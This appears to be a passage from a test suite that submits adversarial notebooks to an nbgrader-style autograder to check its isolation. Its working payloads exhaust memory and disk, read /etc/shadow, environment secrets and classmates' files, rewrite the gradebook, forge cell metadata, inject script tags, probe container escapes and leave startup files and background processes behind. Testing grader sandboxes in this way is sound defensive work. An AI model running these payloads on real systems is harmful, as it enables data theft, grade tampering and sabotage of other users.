       cell("""
import mmap, os
try:
    for n in range(20):
        part = mmap.mmap(-1, 256 << 20)
        np.frombuffer(part, np.uint8)[::4096] = 1
        globals()[f"part{n}"] = part
    print("won: 5 GB of shared memory")
except (MemoryError, OSError, ValueError):
    print("stopped at", n / 4, "GB")
for n in range(20):
    globals().pop(f"part{n}", None)
"""))  # fmt: skip

attack(3, "full_disk", "700 MB in each folder that can be written",
       cell("""
import os
for folder in (".", "/tmp", "/dev/shm", "/dev", "/", "/run", <<home>>, <<root>>, <<outside>>):
    paths, size = [], 0
    try:
        for n in range(7):
            paths.append(os.path.join(folder, f"vl-mark-{n}"))
            with open(paths[-1], "w") as file:
                os.posix_fallocate(file.fileno(), 0, 100_000_000)
            size += 100
    except OSError:
        pass
    for path in paths:
        try:
            os.unlink(path)
        except OSError:
            pass
    if size == 700:
        print("won: 700 MB in", folder if len(folder) < 9 else "a folder outside")
"""), joint=True)  # fmt: skip

attack(3, "output_flood", "150 MB on stdout", cell("for n in range(150):\n    print(('x' * 99 + '\\n') * 10_000)"))

attack(3, "one_huge_output", "one display of 120 MB, and one of a hundred thousand parts",
       cell("""
from IPython.display import display
display({"text/html": "x" * 120_000_000, "text/plain": "x"}, raw=True)
display({f"x/{n}": "y" * 100 for n in range(100_000)}, raw=True)
"""))  # fmt: skip

attack(3, "huge_result", "the function returns an array of 80 GB that takes eight bytes",
       function("return np.broadcast_to(np.zeros(1), (10_000_000_000,))"))  # fmt: skip

attack(3, "endless_result", "the function returns something that never ends, or that holds itself",
       function("state.append(state)\nreturn state if len(state) % 2 else itertools.count()",
                "import itertools\nstate = []"))  # fmt: skip

attack(3, "open_files", "every file descriptor there is",
       cell("""
import os
held = []
try:
    while len(held) < 50_000:
        held.append(os.open("/dev/null", os.O_RDONLY))
except OSError:
    pass
for each in held:
    os.close(each)
"""), joint=True)  # fmt: skip

# 5. Getting out, and taking things along.

attack(4, "environment", "the grader's environment variables, its own and those of every process",
       cell("""
import os, re
print({name: value for name, value in os.environ.items() if name.startswith("COURSE")})
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            print(re.findall("COURSE_SECRET=[^\\0]*", open(f"/proc/{pid}/environ").read()))
        except OSError:
            pass
"""), joint=True)  # fmt: skip

attack(4, "home", "a key in the grader's home", cell('print(open(<<home>> + "/.secret").read())'), joint=True)

attack(4, "password_file", "/etc/shadow (only whether it can be read)",
       cell('print("won: read /etc/" + "shadow" if open("/etc/shadow").read() else "empty")'), joint=True)  # fmt: skip

attack(4, "roster", "the list of the class, in the course folder",
       cell('print(open(<<root>> + "/roster.csv").read())'), joint=True)  # fmt: skip

attack(4, "marks_of_others", "other students' rows in the gradebook",
       cell("""
import sqlite3
base = sqlite3.connect("file:" + <<root>> + "/gradebook.db?mode=ro", uri=True)
print(base.execute("select * from student").fetchall())
"""), joint=True)  # fmt: skip

attack(4, "work_of_others", "another student's submission, and their graded notebook",
       cell("""
for folder in ("submitted", "autograded"):
    try:
        print(open(<<root>> + f"/{folder}/ada/" + <<lab>> + "/" + <<lab>> + ".ipynb").read())
    except OSError:
        pass
"""), joint=True)  # fmt: skip

attack(4, "network", "a message to a server, on the machine's own address (none leaves it)",
       cell("""
import socket
with socket.create_connection(("127.0.0.1", <<port>>), timeout=3) as line:
    line.sendall(b"network")
"""), joint=True)  # fmt: skip

attack(4, "unix_sockets", "a message to a socket file and to an abstract socket, as a container engine or a database has",
       cell("""
import socket
for address in (<<socket>>, chr(0) + <<abstract>>):
    try:
        line = socket.socket(socket.AF_UNIX)
        line.settimeout(3)
        line.connect(address)
        line.sendall(b"unix socket")
    except OSError:
        pass
"""), joint=True)  # fmt: skip

attack(4, "socket_behind_a_link", "the kernel's own socket files become links to another service of the machine",
       cell("""
import os, socket, time
from ipykernel.connect import get_connection_info
where = get_connection_info(unpack=True)
if where["transport"] == "ipc":
    for name in [key for key in where if key.endswith("_port")]:
        path = f'{where["ip"]}-{where[name]}'
        try:
            os.unlink(path)
            os.symlink(<<socket>>, path)
        except OSError:
            pass
    for fd in range(3, 200):
        try:
            socket.socket(fileno=os.dup(fd)).shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
    time.sleep(2)
"""), least={})  # fmt: skip

attack(4, "processes_of_others", "another process of the machine is found and killed",
       cell("""
import os
for pid in [each for each in os.listdir("/proc") if each.isdigit()]:
    try:
        if b"vl-canary" in open(f"/proc/{pid}/cmdline", "rb").read():
            os.kill(int(pid), 9)
    except OSError:
        pass
"""), joint=True)  # fmt: skip

attack(4, "files_outside", "a file in a folder of the machine",
       cell('open(<<outside>> + "/files_outside", "w").write("vl-mark files_outside")'), joint=True)  # fmt: skip

attack(4, "gradebook_row", "the attacker's own row in the gradebook gets points by hand",
       cell("""
import sqlite3
base = sqlite3.connect(<<root>> + "/gradebook.db", timeout=20)
with base:
    base.execute("update grade set extra_credit = 40, manual_score = 3")
"""), joint=True)  # fmt: skip

attack(4, "other_folders_of_the_course", "the graded notebook, the marks and the pages of the class are rewritten",
       cell("""
import glob, os
for path in glob.glob(<<root>> + "/autograded/ada/**/*", recursive=True) + [
    <<root>> + "/report/marks.csv", <<root>> + "/nbgrader_config.py", <<root>> + "/labs"]:
    try:
        with open(path, "a") as file:
            file.write("\\n# vl-mark other_folders_of_the_course\\n")
    except OSError:
        pass
"""), joint=True)  # fmt: skip

attack(4, "link_in_place_of_the_notebook", "the graded notebook becomes a link, through which the grader writes elsewhere",
       cell("""
import os
name = <<lab>> + ".ipynb"
target = <<root>> + "/source/" + <<lab>> + "/" + name
for folder in (".", <<root>> + "/autograded/" + <<student>> + "/" + <<lab>>):
    try:
        if os.path.lexists(os.path.join(folder, name)):
            os.unlink(os.path.join(folder, name))
        os.symlink(target, os.path.join(folder, name))
    except OSError:
        pass
"""), joint=True)  # fmt: skip

attack(4, "inherited_files", "files that the grader has open and that the kernel may have been handed",
       cell("""
import os
for fd in os.listdir("/proc/self/fd"):
    try:
        path = os.readlink(f"/proc/self/fd/{fd}")
        if path.startswith(<<root>>) or "gradebook" in path:
            print("won: holds", os.path.basename(path))
    except OSError:
        pass
"""), joint=True)  # fmt: skip

attack(4, "new_namespaces", "a namespace of its own, a mount, a debugger: the doors out of a container",
       cell("""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
try:
    open("/proc/sys/kernel/core_pattern", "r+").close()
    print("won: can write settings of the machine")
except OSError:
    pass
for name in ("sda", "vda", "nvme0n1", "mem", "kmsg"):
    try:
        os.close(os.open(f"/dev/{name}", os.O_RDONLY))
        print("won: opened", name)
    except OSError:
        pass
if os.fork() == 0:
    os._exit(0 if libc.unshare(0x10000000) == 0 else 1)
if os.waitstatus_to_exitcode(os.wait()[1]) == 0:
    print("won: made a user namespace")
"""), joint=True)  # fmt: skip

# 6. The notebook's structure and metadata.


def duplicated(nb: NotebookNode) -> None:
    for each in graded_cells(nb):
        copy = nbformat.from_dict({**each, "id": each.id[::-1], "source": "100"})
        copy.metadata = nbformat.from_dict({**each.metadata, "nbgrader": {**each.metadata.nbgrader, "points": 100}})
        nb.cells.insert(nb.cells.index(each), copy)


attack(5, "copies_worth_more", "every graded cell twice, the first worth 100 points and saying 100",
       edited(duplicated))  # fmt: skip


def worth(points: Any) -> Make:
    return edited(lambda nb: [each.metadata.nbgrader.update(points=points) for each in graded_cells(nb)], right=True)


for name, points in (
    ("worth_100", 100), ("worth_less_than_nothing", -5), ("worth_nan", float("nan")), ("worth_a_list", [5])
):  # fmt: skip
    attack(5, name, f"right answers, and metadata that says each is worth {points}", worth(points), most=EVERYTHING,
           least={})  # fmt: skip


def remove_graded(nb: NotebookNode) -> None:
    nb.cells = [each for each in nb.cells if each not in graded_cells(nb)]


attack(5, "graded_cells_removed", "wrong answers, and no cell that would find them out", edited(remove_graded), least={})


def as_text(nb: NotebookNode) -> None:
    for each in graded_cells(nb):
        each.cell_type = "markdown"
        for key in ("outputs", "execution_count"):
            each.pop(key, None)


attack(5, "graded_cells_as_text", "graded cells turned into text cells, which nothing runs", edited(as_text))


def say(source: str, **meta: Any) -> Callable[[NotebookNode], None]:
    def change(nb: NotebookNode) -> None:
        for each in graded_cells(nb):
            each.source = source
            each.metadata.nbgrader.update(meta)

    return change


attack(5, "locked_cells_edited", "the graded cells say 3", edited(say("3")))
attack(5, "unlocked_cells", "the graded cells say 3 and are not locked any more", edited(say("3", locked=False)))
attack(5, "graded_cells_as_answers", "graded cells that are marked by hand, as answers", edited(
    say("# I should like a person to look", solution=True, locked=False)))  # fmt: skip
attack(5, "wrong_checksums", "forged checksums and a schema of the future", edited(
    say("3", checksum="0" * 32, schema_version=99)))  # fmt: skip
attack(5, "metadata_of_no_form", "nbgrader's metadata are text, lists and nothing", edited(
    lambda nb: [each.metadata.update(nbgrader=value) for each, value in zip(graded_cells(nb), ("yes", [1], None, 7))]),
       least={})  # fmt: skip


def answers_worth_points(nb: NotebookNode) -> None:
    for each in nb.cells:
        if each.metadata.get("nbgrader", {}).get("solution"):
            each.metadata.nbgrader.update(grade=True, points=50)


attack(5, "answers_worth_points", "answer cells that say they are graded and worth 50", edited(answers_worth_points))


def bonus(nb: NotebookNode) -> None:
    meta = {"grade_id": "test-bonus", "grade": True, "points": 50, "solution": False, "locked": True, "task": False,
            "schema_version": 3}  # fmt: skip
    nb.cells.append(nbformat.v4.new_code_cell("50", metadata={"nbgrader": meta}))
    nb.cells.append(nbformat.v4.new_code_cell(
        "50", metadata={"nbgrader": {**meta, "grade_id": "../../../gradebook"}}))  # fmt: skip


attack(5, "cells_of_ones_own", "graded cells that no lab has, worth 50", edited(bonus))


def exchanged(nb: NotebookNode) -> None:
    """The id of each graded cell stands on a cell of the student's, the graded cell is called otherwise."""
    for each in graded_cells(nb):
        mine = nbformat.v4.new_code_cell("3", metadata={"nbgrader": dict(each.metadata.nbgrader)})
        each.metadata.nbgrader["grade_id"] += "x"
        nb.cells.insert(3, mine)


attack(5, "exchanged_names", "the graded cells' names stand on cells of the student's", edited(exchanged), least={})


def saved_outputs(nb: NotebookNode) -> None:
    for each in graded_cells(nb):
        name, points = each.metadata.nbgrader.grade_id, each.metadata.nbgrader.points
        forged = {"task": name.removeprefix("test-"), "points": points, "max_points": points, "status": "graded", "seed": 1,
                  "properties": [], "diagnosis": None, "message": ""}  # fmt: skip
        data = {"text/plain": str(points), "application/vnd.vaelabs.verdict+json": forged}
        each.outputs = [nbformat.v4.new_output("execute_result", data, execution_count=1)]
        each.execution_count = 1
        each.metadata["tags"] = ["skip-execution", "show", "parameters", "raises-exception", "in-kernel"]


attack(5, "saved_outputs", "graded cells handed in with outputs, and tags that ask not to run them", edited(saved_outputs))


def of_the_grader(nb: NotebookNode) -> None:
    nb.metadata["vaelabs"] = {"quick": {"double": "lambda x: 9"}, "judge": None, "framework": "none", "isolation": "none"}
    nb.metadata["kernelspec"] = {"name": "../../bin/sh", "display_name": "<script>", "language": "R",
                                 "metadata": {"kernel_provisioner": {"provisioner_name": "local-provisioner"}}}  # fmt: skip
    nb.metadata["language_info"] = {"name": "bash", "version": ["3"]}
    for each in nb.cells:
        each.metadata["tags"] = ["in-kernel"]
        each.metadata["vaelabs_doubt"] = "give it all to me"


attack(5, "settings_of_the_grader", "the metadata name a kernel, a profile and tags that are the grader's own",
       edited(of_the_grader))  # fmt: skip

attack(5, "markup", "scripts and terminal codes in every text that is shown",
       function("""
raise type("<script>alert(1)</script>", (Exception,), {})("<script>alert(2)</script>\\x1b]0;x\\x07\\x1b[2J")
""", """
from IPython.display import HTML, Javascript, display
print("<script>alert(3)</script>", "\\x1b[2J\\x1b]0;owned\\x07")
display(HTML("<script>alert(4)</script>"), Javascript("alert(5)"))
display({"image/png": '"><script>alert(6)</script>', "image/svg+xml": "<svg onload=alert(7)>"}, raw=True)
"""))  # fmt: skip

attack(5, "stderr_noise", "a right answer that warns while it is tested: it must not lose its points",
       cell("", kl_divergence="""
import sys, warnings
def kl_divergence(mu, logvar):
    print("noise", file=sys.stderr)
    warnings.warn("noise")
    return 0.5 * (mu**2 + np.exp(logvar) - 1 - logvar).sum(-1)
"""), most={**HONEST, "plain-kl_divergence": 5.0}, least={**HONEST, "plain-kl_divergence": 5.0})  # fmt: skip

# 7. What comes after: other students, the next run.

DIES = "import os\\nos._exit(3)  # vl-mark"
BREAKS = """
import os
def leave(path, text):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "w").write(text)
    except OSError:
        pass
"""

attack(6, "start_up_file", "a file that IPython runs at the start of the next student's kernel",
       cell(BREAKS + f"""
for home in {{<<home>>, os.environ.get("HOME", <<home>>)}}:
    leave(home + "/.ipython/profile_default/startup/00-vl.py", "{DIES}")
"""), joint=True)  # fmt: skip

attack(6, "kernel_of_the_user", "a kernelspec in the grader's home, in place of the real one",
       cell(BREAKS + """
import json
spec = {"argv": ["/bin/false", "vl-mark"], "display_name": "Python 3", "language": "python"}
for home in {<<home>>, os.environ.get("HOME", <<home>>)}:
    leave(home + "/.local/share/jupyter/kernels/python3/kernel.json", json.dumps(spec))
"""), joint=True)  # fmt: skip

attack(6, "package_folder", "a file in site-packages, which every later Python reads",
       cell(BREAKS + 'leave(<<site>> + "/vl_attack.pth", "# vl-mark package_folder\\n")'), joint=True)  # fmt: skip

attack(6, "caches", "matplotlib's settings and a cached model in the grader's home",
       cell(BREAKS + """
for home in {<<home>>, os.environ.get("HOME", <<home>>)}:
    leave(home + "/.config/matplotlib/matplotlibrc", "# vl-mark caches\\n")
    leave(home + "/.cache/torch/hub/checkpoints/model.pt", "vl-mark caches")
"""), joint=True)  # fmt: skip

attack(6, "process_left_behind", "a process that goes on when the notebook is graded",
       cell("""
import os, signal, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for each in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
            signal.signal(each, signal.SIG_IGN)
        open("/proc/self/comm", "w").write(<<process>>)
        for fd in range(3):
            os.dup2(os.open("/dev/null", os.O_RDWR), fd)
        time.sleep(60)
    os._exit(0)
os.wait()
"""), joint=True)  # fmt: skip

attack(6, "marks_changed_later", "a process that waits until the marks are written and then changes them",
       cell("""
import subprocess, sys
program = '''
import sqlite3, sys, time
open("/proc/self/comm", "w").write(sys.argv[2])
for _ in range(100):
    time.sleep(0.2)
    try:
        base = sqlite3.connect(sys.argv[1], timeout=1)
        with base:
            base.execute("update grade set extra_credit = 40")
    except sqlite3.Error:
        pass
'''
subprocess.Popen([sys.executable, "-c", program, <<root>> + "/gradebook.db", <<process>>], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""), joint=True)  # fmt: skip

attack(6, "channel", "an answer left in a shared folder, for the next student to find",
       cell("""
import os
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "/dev", <<home>>, os.getcwd() + "/../.."):
    path = os.path.join(folder, "vl-channel")
    try:
        if os.path.exists(path):
            print("won: found what another student left in", folder if len(folder) < 10 else "another folder")
        open(path, "w").write("vl-mark channel")
    except OSError:
        pass
"""), copies=2)  # fmt: skip

attack(6, "submission_of_the_next", "the next student's submission is replaced by an empty one",
       cell("""
import json, os
path = <<root>> + "/submitted/zoe/" + <<lab>> + "/" + <<lab>> + ".ipynb"
try:
    open(path, "w").write(json.dumps({"cells": [], "metadata": {"x": "vl-mark"}, "nbformat": 4, "nbformat_minor": 5}))
except OSError:
    pass
"""), joint=True)  # fmt: skip

attack(6, "tests_replaced", "the instructor's notebook gets tests that everyone passes",
       cell("""
path = <<root>> + "/source/" + <<lab>> + "/" + <<lab>> + ".ipynb"
try:
    text = open(path).read()
    open(path, "w").write(text.replace("assert ", "vl_mark = "))
except OSError:
    pass
"""), joint=True)  # fmt: skip

attack(6, "next_student_skipped", "the next student's folder is there already, so the grader passes over it",
       cell(BREAKS + """
for folder in (<<root>> + "/autograded/zoe/" + <<lab>>, "../../zoe/" + <<lab>>):
    leave(folder + "/" + <<lab>> + ".ipynb", "{}")
    leave(folder + "/numpy.py", "raise SystemExit  # vl-mark")
"""), joint=True)  # fmt: skip

attack(6, "names_left_in_the_judge", "names and patches that stay where the next student is judged",
       cell("""
import builtins, sys
builtins.kl_divergence = builtins.double = builtins.diagnosis = lambda *a: -1
np.allclose = lambda *a, **k: False
for each in list(sys.modules):
    if each.startswith("vaelabs"):
        sys.modules[each] = None
""", last="del kl_divergence"))  # fmt: skip
